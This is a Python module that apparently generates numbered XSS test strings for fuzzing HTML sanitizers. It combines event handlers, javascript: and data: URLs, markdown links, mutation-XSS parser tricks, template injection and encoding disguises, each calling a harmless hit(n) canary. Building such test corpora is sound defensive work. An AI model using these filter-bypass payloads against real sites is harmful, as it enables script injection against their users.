"""Texts that would run a script if a page let them: drawn from a grammar, each with its number.

The techniques are public knowledge; their combinations are made here. A payload that runs calls
``hit`` with its number, so that a hit names the text that it came from.
"""

from __future__ import annotations

import random
from base64 import b64encode
from collections.abc import Callable, Sequence

#: Ways to call `hit(%d)`, some of which a filter for words would miss.
_CALLS = (
    "hit(%d)", "hit`%d`", "top.hit(%d)", "self['h'+'it'](%d)", "eval('hit(%d)')", "[%d].map(hit)",
    "setTimeout('hit(%d)')", "Reflect.apply(hit,null,[%d])", "new Function('hit(%d)')()",
    "\\u0068it(%d)", "location='javascript:hit(%d)'", "import('data:text/javascript,top.hit(%d)')",
    "throw onerror=hit,%d", "hit(%d)//", "(hit)(%d)", "globalThis?.hit?.(%d)",
)  # fmt: skip
#: A handler that a browser calls by itself, or when a reader does anything: what goes before it.
_HANDLERS = (
    "img src=x onerror", "svg onload", "body onload", "details open ontoggle", "style onload",
    "video src=x onerror", "video><source onerror", "audio src=x onerror", "object data=x onerror",
    "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus",
    "button autofocus onfocus", "p tabindex=1 autofocus onfocus", "a onmouseover", "p onclick",
    "marquee onstart", "link rel=stylesheet href=x onerror", "script src=x onerror",
    "iframe onload", "embed src=x onerror", "image href=x onerror", "svg><animate onbegin",
    "svg><image href=x onerror", "svg><set onbegin", "svg><discard onbegin", "xss onpointerenter",
    "p style=animation:x onanimationstart", "p onbeforetoggle", "dialog open onclose",
    "area onclick",
    "input type=image src=x onerror", "form onsubmit", "keygen autofocus onfocus", "p oncopy",
    "math onclick", "isindex type=image src=1 onerror", "p contenteditable onblur", "h1 onwheel",
)  # fmt: skip
#: Elements whose address is the script.
_ADDRESSED = (
    "<a href={q}{u}{q}>x</a>", "<iframe src={q}{u}{q}></iframe>",
    "<object data={q}{u}{q}></object>",
    "<embed src={q}{u}{q}>", "<form action={q}{u}{q}><button>x</button></form>",
    "<form><button formaction={q}{u}{q}>x</button></form>", "<base href={q}{u}{q}//>",
    "<svg><a xlink:href={q}{u}{q}><text y=9>x</text></a></svg>",
    "<svg><a><animate attributeName=href values={q}{u}{q} /><text y=9>x</text></a></svg>",
    "<math><mrow href={q}{u}{q}>x</mrow></math>", "<script src={q}{u}{q}></script>",
    "<meta http-equiv=refresh content={q}0;url={u}{q}>", "<link rel=stylesheet href={q}{u}{q}>",
    "<svg><use href={q}{u}{q} /></svg>", "<area href={q}{u}{q}>", "<table background={q}{u}{q}>",
    "<svg><script href={q}{u}{q} /></svg>", "<img src={q}{u}{q}>",
    "<video poster={q}{u}{q}></video>",
)  # fmt: skip
_MARKDOWN = (
    "[x]({u})", "[x](<{u}>)", "![x]({u})", "<{u}>", "[x][y]\n\n[y]: {u}", "[x]( {u} 'y')",
    "[![x]({u})]({u})", "[x](\\{u})", "> - [x]({u})", "| a |\n|---|\n| [x]({u}) |",
    "[x](https://e.example/ \"y' {j} onmouseover='{j}\")", "[1]: {u}\n\n[1] [x][1]",
    "[x](https://e.example/\"onclick={j}//)", "[<img src=x onerror={j}>](https://e.example)",
    "`<img src=x onerror={j}>` <img src=x onerror={j}>", "```html\n</code></pre>{h}\n```",
    "# {h}\n\n[8]{h}[1]", "[x](https://e.example/?'><svg/onload={j}>)", "[a]({u}\n'x')", "{u}",
)  # fmt: skip
#: Text that is one thing to who cleans and another to who reads it again.
_TWICE_READ = (
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title=\"--&gt;&lt;img src=x onerror={j}&gt;\">",
    "<svg></p><style><a id=\"</style>{h}\">", "<noscript><p title=\"</noscript>{h}\">",
    "<form><math><mtext></form><form><mglyph><style></math>{h}", "<svg><style><!--</style>{h}-->",
    "<math><annotation-xml encoding='text/html'><style><img title=\"</style>{h}\"></style>",
    "<svg><foreignObject><iframe><p title=\"</iframe>{h}\">", "<xmp><p title=\"</xmp>{h}\">",
    "<textarea><p title=\"</textarea>{h}\">", "<title><p title=\"</title>{h}\">",
    "<svg><title><style><a title=\"</style></title>{h}\">", "<table><td>{h}<table><a>{h}</table>",
    "<select><template>{h}</select>{h}", "<svg><desc><noframes></desc></svg>{h}",
    "<math><mi><b><svg><mi></b>{h}", "<!--><x>{h}-->", "<!--{h}--!>{h}-->", "<?x {h} ?>{h}",
    "<![CDATA[{h}]]>{h}", "<svg><![CDATA[><img src=x onerror={j}>]]>", "<a{h}", "<{h}<{h}>>",
    "<scr<script>ipt>{j}</scr</script>ipt>", "<template>{h}</template>", "<plaintext>{h}",
    "<p id=a><p id=a name=innerHTML>{h}", "<svg><p><style><g title='</style>{h}'>",
)  # fmt: skip
#: What ends the place in which a template might have put the text.
_BREAKERS = (
    "", "\">", "'>", "`>", "\"'>", "</script>", "</title>", "</style>", "</textarea>", "-->", "]]>",
    "</noscript>", "</template>", "</main>", "<!--<script>", "*/", "\\\">", "\";{j};//", "';{j};//",
    "\n\n", "</h1></header>", "</time>", "<!--", "&quot;&gt;", "%22%3E", "\"}}", "]})", "--!>",
)  # fmt: skip
#: What template languages and frameworks would evaluate.
_TEMPLATES = (
    "{{{{constructor.constructor('{j}')()}}}}", "${{{j}}}", "#{{{j}}}", "<%= {j} %>", "{{% {j} %}}",
    "{{{{ cycler.__init__.__globals__ }}}}{h}", "[[{j}]]", "<p ng-app ng-init=\"{j}\">",
    "<p x-data x-init=\"{j}\">", "<p v-html=\"'{j}'\">", "<p hx-on:load=\"{j}\" hx-trigger=load>",
    "javascript:{j}", "\" autofocus onfocus=\"{j}", "' onmouseover='{j}", "` onerror=`{j}",
    "x\" onerror=\"{j}\" src=\"x", "\"-{j}-\"", "'+{j}+'", "\\\"-{j}//", "*/{j}/*",
    "\u2028{j}\u2028",
)  # fmt: skip


def payloads(count: int, seed: int) -> list[str]:
    """Return *count* texts; number *n* of one seed is always the same."""
    return [_payload(number, random.Random(f"{seed} {number}")) for number in range(count)]


def _payload(number: int, draw: random.Random) -> str:
    call = draw.choice(_CALLS) % number
    kind: Callable[[random.Random, str], str] = draw.choice(_KINDS)
    breaker = draw.choice(_BREAKERS).replace("{j}", call)
    return breaker + _disguised(draw, kind(draw, call))


def _element(draw: random.Random, call: str) -> str:
    """Return an element that runs *call* by itself, or when it is used."""
    gap, quote = draw.choice((" ", "/", "\n", "\t", " / ")), draw.choice(('"', "'"))
    tag = _any_case(draw, draw.choice(_HANDLERS)).replace(" ", gap)
    scripts = (
        f"<{tag}={quote}{_quoted(call, quote)}{quote}>",
        f"<{tag}{gap}={call.replace(' ', '')}>",
        f"<script{gap}>{call}</script{gap}>",
        f"<iframe srcdoc={quote}<script>parent.{_bare(call)}</script>{quote}></iframe>",
    )
    return draw.choices(scripts, (6, 2, 2, 1))[0]


def _addressed(draw: random.Random, call: str) -> str:
    quote = draw.choice(('"', "'"))
    return draw.choice(_ADDRESSED).format(q=quote, u=_quoted(_address(draw, call), quote))


def _markdown(draw: random.Random, call: str) -> str:
    facts = {"u": _address(draw, call), "j": call, "h": _element(draw, call)}
    return _filled(draw.choice(_MARKDOWN), facts)


def _twice_read(draw: random.Random, call: str) -> str:
    return _filled(draw.choice(_TWICE_READ), {"j": call, "h": _element(draw, call)})


def _template(draw: random.Random, call: str) -> str:
    text = draw.choice(_TEMPLATES).replace("{{", "{").replace("}}", "}")
    return _filled(text, {"j": call, "h": _element(draw, call)})


_KINDS: Sequence[Callable[[random.Random, str], str]] = (
    _element, _element, _element, _addressed, _addressed, _markdown, _markdown, _twice_read,
    _twice_read, _template,
)  # fmt: skip


def _address(draw: random.Random, call: str) -> str:
    page = f"<script>top.{_bare(call)}</script>"
    made = (
        f"javascript:{call}", f"JaVaScRiPt:{call}", f"java\tscript:{call}",
        f"\x01javascript:{call}",
        f"javascript&colon;{call}", f"&#106;avascript:{call}", f"javascript://%0a{call}",
        f"javascript:/*--></title>*/{call}", f"  javascript:{call}", f"vbscript:{call}",
        f"data:text/html,{page}", f"data:text/html;base64,{b64encode(page.encode()).decode()}",
        f"data:text/javascript,top.{_bare(call)}", f"data:image/svg+xml,<svg onload={call}>",
        f"feed:javascript:{call}", f"//e.example/{call}", f"https:javascript:{call}",
        f"javascript:'<svg onload={call}>'", f"blob:{call}", f"view-source:javascript:{call}",
    )  # fmt: skip
    return draw.choices(made, [6] + [1] * (len(made) - 1))[0]


def _filled(text: str, facts: dict[str, str]) -> str:
    for name, value in facts.items():
        text = text.replace(f"{{{name}}}", value)
    return text


def _bare(call: str) -> str:
    """Return the number of *call* in the plainest form, for where it is quoted twice."""
    return f"hit({''.join(char for char in call if char.isdigit()).removeprefix('0068')})"


def _quoted(text: str, quote: str) -> str:
    return text.replace(quote, "&quot;" if quote == '"' else "&apos;")


def _any_case(draw: random.Random, text: str) -> str:
    return "".join(draw.choice((char, char, char.upper())) for char in text)


def _disguised(draw: random.Random, text: str) -> str:
    """Return *text* as it is, mostly; else as somebody might decode it once too often."""
    disguises: Sequence[Callable[[str], str]] = (
        lambda whole: whole,
        lambda whole: whole.replace("<", "&lt;").replace(">", "&gt;"),
        lambda whole: whole.replace("<", "&#x3c;"),
        lambda whole: whole.replace("<", "\\u003c"),
        lambda whole: whole.replace("<", "\uff1c").replace(">", "\uff1e"),
        lambda whole: whole.replace("<", "%3C"),
        lambda whole: f"\ufeff\u202e{whole}\u200b",
        lambda whole: whole.replace("s", "\u017f", 1),
        lambda whole: whole.replace("<", "<\u200b", 1),
    )
    return draw.choices(disguises, [12] + [1] * (len(disguises) - 1))[0](text)
